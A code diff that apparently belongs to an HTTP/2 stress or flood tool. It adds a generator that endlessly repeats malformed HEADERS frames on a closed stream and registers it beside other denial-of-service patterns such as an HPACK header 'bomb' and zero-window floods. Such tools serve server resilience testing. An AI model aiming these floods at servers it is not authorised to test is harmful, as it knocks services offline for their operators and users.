@@ -131,6 +131,12 @@ def malformed_headers(client: FrameClient) -> Iterator[bytes]:
         yield raw(1, 5, client.new(), b"\x82\x87\x84\x00\x01A\x01a")
 
 
+def heads_of_a_closed_stream(client: FrameClient) -> Iterator[bytes]:
+    stream = client.new()
+    yield raw(1, 5, stream, b"\x82\x87\x84\x00\x01A\x01a")
+    yield from itertools.repeat(raw(1, 5, stream, b"\x82\x87\x84"))
+
+
 def bomb(client: FrameClient) -> Iterator[bytes]:
     entry = b"\x40\x01a\x7f\x80\x1e" + b"x" * 3967
     while True:
@@ -174,6 +180,7 @@ FLOODS: dict[str, Flood] = {
     "priority update": repeated(lambda client: raw(16, 0, 0, b"\0\0\0\1u=1")),
     "unknown frames": repeated(lambda client: raw(0x42, 0, 0, b"x" * 4)),
     "empty data": empty_data, "padding alone": padding_alone, "empty headers": empty_headers, "malformed headers": malformed_headers,
+    "heads of a closed stream": heads_of_a_closed_stream,
     "bomb": bomb, "small bombs": small_bombs, "zero windows": zero_windows, "toggled windows": toggled_windows,
 }  # fmt: skip
 
